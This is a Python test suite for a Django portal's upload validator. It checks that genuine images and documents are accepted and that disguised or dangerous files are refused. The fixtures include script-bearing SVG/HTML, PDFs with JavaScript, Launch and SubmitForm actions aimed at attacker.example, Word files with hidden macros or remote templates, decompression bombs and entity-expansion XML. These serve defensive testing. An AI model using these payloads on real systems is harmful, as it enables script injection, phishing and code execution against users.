"""Uploads are judged by content: real images and documents only, SVG and HTML refused even renamed."""

import io
import json
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from portal.uploads import validate_image_upload, validate_upload

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def image_bytes(fmt="PNG", size=(40, 30)):
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, fmt)
    return out.getvalue()


def office_bytes(main_part="word/document.xml", extra=()):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr(main_part, "<document/>")
        for name in extra:
            archive.writestr(name, "x")
    return out.getvalue()


def pdf_bytes(*objects, trailer=b""):
    """A well-formed PDF whose objects 1.. are `objects` (object 1 is the catalog), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] %s>>"


PDF = pdf_bytes(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, PAGE % b"")


def upload(name, data, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)


@pytest.mark.parametrize(
    "name,data",
    [
        ("photo.png", image_bytes("PNG")),
        ("photo.jpg", image_bytes("JPEG")),
        ("photo.jpeg", image_bytes("JPEG")),
        ("animation.gif", image_bytes("GIF")),
        ("picture.webp", image_bytes("WEBP")),
        ("strategy.pdf", PDF),
        ("toolkit.docx", office_bytes("word/document.xml")),
        ("figures.xlsx", office_bytes("xl/workbook.xml")),
        ("slides.pptx", office_bytes("ppt/presentation.xml")),
    ],
)
def test_real_images_and_documents_are_accepted(name, data):
    file = upload(name, data)
    assert validate_upload(file) is file


@pytest.mark.parametrize(
    "name,data,message",
    [
        ("drawing.svg", SVG, "not a file type the portal accepts"),
        ("drawing.png", SVG, "not a file type the portal accepts"),
        ("page.html", HTML, "not a file type the portal accepts"),
        ("page.pdf", HTML, "not a file type the portal accepts"),
        ("archive.docx", b"PK\x03\x04" + b"\x00" * 40, "damaged"),
        ("macro.docx", office_bytes("word/document.xml", ["word/vbaProject.bin"]), "macros"),
        ("plain.docx", office_bytes("other/thing.xml"), "not a Word, Excel or PowerPoint file"),
        ("script.pdf", PDF.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (x) >>"),
         "scripts"),
        ("photo.html", image_bytes("GIF"), "Rename it"),
        ("photo.png", image_bytes("JPEG"), "Rename it"),
        ("broken.png", image_bytes("PNG")[:60], "damaged image"),
        ("program.exe", b"MZ" + b"\x00" * 100, "not a file type"),
    ],
)  # fmt: skip
def test_other_content_is_refused_with_a_clear_message(name, data, message):
    with pytest.raises(ValidationError) as error:
        validate_upload(upload(name, data, "image/png"))
    assert message in error.value.messages[0]
    assert name in error.value.messages[0]


def test_images_over_2_mb_and_documents_over_10_mb_are_refused():
    big_png = upload("big.png", image_bytes("PNG") + b"\x00" * (2 * 1024 * 1024))
    with pytest.raises(ValidationError, match="at most 2"):
        validate_upload(big_png)
    big_pdf = upload("big.pdf", PDF + b"\x00" * (10 * 1024 * 1024))
    with pytest.raises(ValidationError, match="10 MB"):
        validate_upload(big_pdf)


def test_image_only_check_refuses_documents():
    with pytest.raises(ValidationError, match="PNG, JPEG, GIF or WebP"):
        validate_image_upload(upload("strategy.pdf", PDF))


def test_empty_value_and_stored_files_pass_through(db):
    from briefings.models import Resource

    assert validate_upload(None) is None
    resource = Resource(title="Stored", file="resources/2024/stored.pdf")
    assert validate_upload(resource.file) is resource.file


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def markdownx_upload(client, name, data, content_type):
    return client.post(
        "/markdownx/upload/",
        {"image": SimpleUploadedFile(name, data, content_type=content_type)},
        headers={"x-requested-with": "XMLHttpRequest"},
    )


def test_editor_image_upload_accepts_a_real_image(staff_client, media):
    response = markdownx_upload(staff_client, "chart.png", image_bytes("PNG"), "image/png")
    assert response.status_code == 200
    code = json.loads(response.content)["image_code"]
    assert code.startswith("![](/media/markdownx/") and code.endswith(".png)")


@pytest.mark.parametrize(
    "name,data,content_type",
    [
        ("evil.png", SVG, "image/png"),
        ("evil.svg", SVG, "image/svg+xml"),
        ("evil.gif", HTML, "image/gif"),
        ("evil.html", HTML, "image/png"),
        ("strategy.pdf", PDF, "image/png"),
    ],
)
def test_editor_image_upload_refuses_svg_html_and_documents_whatever_the_header(
    staff_client, media, name, data, content_type
):
    response = markdownx_upload(staff_client, name, data, content_type)
    assert response.status_code == 400
    assert not any(media.rglob("*.*"))


def test_editor_image_upload_stores_the_name_from_the_content_not_the_upload(staff_client, media):
    """A GIF named page.html (so a server would send it as a web page) is stored as .gif."""
    response = markdownx_upload(staff_client, "page.gif", image_bytes("GIF"), "image/gif")
    assert response.status_code == 200
    response = markdownx_upload(staff_client, "page.html", image_bytes("GIF"), "image/gif")
    assert response.status_code == 400
    stored = [p.suffix for p in media.rglob("*.*")]
    assert stored == [".gif"]


def test_image_upload_is_for_staff_only(client, media):
    response = markdownx_upload(client, "chart.png", image_bytes("PNG"), "image/png")
    assert response.status_code == 302
    assert not any(media.rglob("*.*"))


def test_resource_upload_in_the_real_admin_is_checked_by_content(staff_client, media):
    from briefings.models import Resource

    data = {
        "title": "Neglect poster",
        "kind": "poster",
        "description": "",
        "url": "",
        "position": "0",
        "status": "draft",
    }
    refused = staff_client.post(
        "/admin/briefings/resource/add/", {**data, "file": upload("poster.png", SVG, "image/png")}
    )
    assert refused.status_code == 200
    assert "not a file type the portal accepts" in refused.content.decode()
    assert not Resource.objects.exists()
    accepted = staff_client.post(
        "/admin/briefings/resource/add/", {**data, "file": upload("poster.png", image_bytes(), "image/png")}
    )
    assert accepted.status_code == 302
    assert Resource.objects.get().file.name.endswith(".png")


def pdf_opening_with(action, page_extra=b""):
    return pdf_bytes(b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % action, PAGES, PAGE % page_extra)


def pdf_with_object_stream(hidden):
    """Object 4 (`hidden`) lives compressed in object stream 3, listed only by a cross-reference stream."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    header = b"4 0 "
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [] /Count 0 >>",
        3: b"<< /Type /ObjStm /N 1 /First %d /Length %d >>\nstream\n%s%s\nendstream"
        % (len(header), len(header) + len(hidden) + 1, header, hidden),
    }
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[5] = len(out)
    rows = [(0, 0, 65535), *((1, offsets[n], 0) for n in (1, 2, 3)), (2, 3, 0), (1, offsets[5], 0)]
    data = b"".join(kind.to_bytes(1, "big") + a.to_bytes(4, "big") + b.to_bytes(2, "big") for kind, a, b in rows)
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(data),
        data,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[5]
    return bytes(out)


def encrypted_pdf():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_a_web_link():
    from pypdf import PdfWriter
    from pypdf.annotations import Link

    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://www.nspcc.org.uk/"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "name,data,message",
    [
        ("escaped-js.pdf", pdf_opening_with(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"), "run when"),
        ("launch.pdf", pdf_opening_with(b"<< /S /L#61unch /F (calc.exe) >>"), "run when"),
        ("uri.pdf", pdf_opening_with(b"<< /S /URI /URI (https://attacker.example/) >>"), "run when"),
        ("submit.pdf", pdf_opening_with(b"<< /S /SubmitForm /F (https://attacker.example/) >>"), "run when"),
        ("import.pdf", pdf_opening_with(b"<< /S /ImportData /F (x.fdf) >>"), "run when"),
        ("remote.pdf", pdf_opening_with(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"), "run when"),
        ("embedded-goto.pdf", pdf_opening_with(b"<< /S /GoToE /T << /R /C /N (x) >> >>"), "run when"),
        ("chained.pdf", pdf_opening_with(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://a.example) >> >>"
                                         ), "run when"),
        ("page-aa.pdf", pdf_opening_with(b"[3 0 R /Fit]", b"/AA << /O << /S /JavaScript /JS (x) >> >> "), "run when"),
        ("link-js.pdf", pdf_opening_with(b"[3 0 R /Fit]", b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                                         b"/A << /S /JavaScript /JS (x) >> >>] "), "run when"),
        ("names-js.pdf", pdf_bytes(CATALOG % b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>",
                                   PAGES, PAGE % b"", b"<< /S /JavaScript /JS (app.alert(1)) >>"), "run when"),
        ("attached.pdf", pdf_bytes(CATALOG % b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                                   PAGES, PAGE % b"", b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                                   b"<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream"), "attached files"),
        ("media.pdf", pdf_opening_with(b"[3 0 R /Fit]", b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>] "),
         "run when"),
        ("objstm.pdf", pdf_with_object_stream(b"<< /S /J#61vaScript /JS (app.alert(1)) >>"), "run when"),
        ("locked.pdf", encrypted_pdf(), "password"),
        ("broken.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R\n" + b"\x00\xff" * 50, "damaged"),
        ("truncated.pdf", pdf_opening_with(b"[3 0 R /Fit]")[:40], "damaged"),
    ],
)  # fmt: skip
def test_pdfs_with_actions_scripts_attachments_or_encryption_are_refused(name, data, message):
    with pytest.raises(ValidationError) as error:
        validate_upload(upload(name, data, "application/pdf"))
    assert message in error.value.messages[0]
    assert name in error.value.messages[0]


@pytest.mark.parametrize(
    "name,data",
    [
        ("links.pdf", pdf_with_a_web_link()),
        ("opens-at-page-1.pdf", pdf_opening_with(b"[3 0 R /Fit]")),
        ("goto.pdf", pdf_opening_with(b"<< /S /GoTo /D [3 0 R /Fit] >>")),
        ("mentions-javascript.pdf", pdf_opening_with(b"[3 0 R /Fit]", b"/Title (/JavaScript and /Launch explained) ")),
    ],
)
def test_ordinary_pdfs_with_web_links_are_accepted(name, data):
    assert validate_upload(upload(name, data, "application/pdf"))


CONTENT_TYPES = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
}
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word_document(overrides=(), parts=(), relationships=(), defaults=(), main_type=CONTENT_TYPES["docx"]):
    """A .docx built part by part: extra content types, parts and document relationships as Word writes them."""
    types = [
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">',
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
        '<Default Extension="xml" ContentType="application/xml"/>',
        *(f'<Default Extension="{ext}" ContentType="{kind}"/>' for ext, kind in defaults),
        f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>',
        *(f'<Override PartName="{part}" ContentType="{kind}"/>' for part, kind in overrides),
        "</Types>",
    ]
    rels = ['<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">']
    for number, (kind, target, mode) in enumerate(relationships, start=1):
        mode = f' TargetMode="{mode}"' if mode else ""
        rels.append(f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"{mode}/>')
    rels.append("</Relationships>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "".join(types))
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{RELS}/officeDocument" Target="word/document.xml"/></Relationships>',
        )
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/_rels/document.xml.rels", "".join(rels))
        for name in parts:
            archive.writestr(name, "x")
    return out.getvalue()


@pytest.mark.parametrize(
    "name,data,message",
    [
        ("renamed-macro.docx", word_document(overrides=[("/word/notes.dat", "application/vnd.ms-office.vbaProject")],
                                             parts=["word/notes.dat"]), "macros"),
        ("macro-by-default.docx", word_document(defaults=[("dat", "application/vnd.ms-office.vbaProject")],
                                                parts=["word/notes.dat"]), "macros"),
        ("macro-relationship.docx", word_document(
            relationships=[("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "notes.dat", "")],
            parts=["word/notes.dat"]), "macros"),
        ("docm-renamed.docx", word_document(main_type=CONTENT_TYPES["docm"]), "macros"),
        ("activex.docx", word_document(overrides=[("/word/activeX/x.xml", "application/vnd.ms-office.activeX+xml")],
                                       parts=["word/activeX/x.xml"]), "macros"),
        ("xlm.docx", word_document(overrides=[("/word/m.xml", "application/vnd.ms-excel.macrosheet+xml")]), "macros"),
        ("template.docx", word_document(
            relationships=[(f"{RELS}/attachedTemplate", "https://attacker.example/t.dotm", "External")]),
         "another address"),
        ("template-case.docx", word_document(
            relationships=[(f"{RELS}/attachedTemplate", "\\\\attacker.example\\share\\t.dotm", "external")]),
         "another address"),
        ("ole-link.docx", word_document(
            relationships=[(f"{RELS}/oleObject", "https://attacker.example/x.rtf", "External")]), "another address"),
        ("frame.docx", word_document(
            relationships=[(f"{RELS}/frame", "https://attacker.example/", "External")]), "another address"),
        ("embedded-ole.docx", word_document(
            overrides=[("/word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject")],
            parts=["word/embeddings/oleObject1.bin"]), "embedded"),
        ("broken-types.docx", word_document(main_type='x"/><Broken'), "damaged"),
    ],
)  # fmt: skip
def test_office_files_with_macros_or_remote_parts_are_refused(name, data, message):
    with pytest.raises(ValidationError) as error:
        validate_upload(upload(name, data))
    assert message in error.value.messages[0]
    assert name in error.value.messages[0]


def test_a_word_document_with_web_links_and_pictures_is_accepted():
    data = word_document(
        defaults=[("png", "image/png")],
        parts=["word/media/image1.png"],
        relationships=[
            (f"{RELS}/hyperlink", "https://www.nspcc.org.uk/", "External"),
            (f"{RELS}/image", "media/image1.png", ""),
        ],
    )
    assert validate_upload(upload("toolkit.docx", data))


def huge_png(side=9400):
    """A real, valid greyscale PNG of side x side pixels that compresses to a few hundred kilobytes."""
    import struct
    import zlib

    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    squeeze = zlib.compressobj(9)
    row = b"\x00" * (side + 1)
    pixels = b"".join(squeeze.compress(row) for _ in range(side)) + squeeze.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def test_an_image_with_too_many_pixels_is_refused_from_its_header(media, staff_client):
    data = huge_png()
    assert len(data) < 2 * 1024 * 1024
    with pytest.raises(ValidationError) as error:
        validate_upload(upload("poster.png", data, "image/png"))
    assert "9400 × 9400 pixels" in error.value.messages[0]
    response = markdownx_upload(staff_client, "poster.png", data, "image/png")
    assert response.status_code == 400
    assert not any(media.rglob("*.*"))


def test_a_large_photo_within_the_pixel_limit_is_accepted():
    assert validate_upload(upload("photo.png", huge_png(4000)))


def test_office_xml_with_entity_definitions_is_refused_not_expanded():
    laughs = '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><Types>&b;</Types>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", laughs)
        archive.writestr("word/document.xml", "<document/>")
    with pytest.raises(ValidationError, match="damaged"):
        validate_upload(upload("laughs.docx", out.getvalue()))


def test_a_pdf_made_by_the_portal_printer_with_links_is_accepted():
    from weasyprint import HTML

    data = HTML(string='<h1>Neglect</h1><p><a href="https://www.nspcc.org.uk/">NSPCC</a></p>').write_pdf()
    assert validate_upload(upload("briefing.pdf", data))
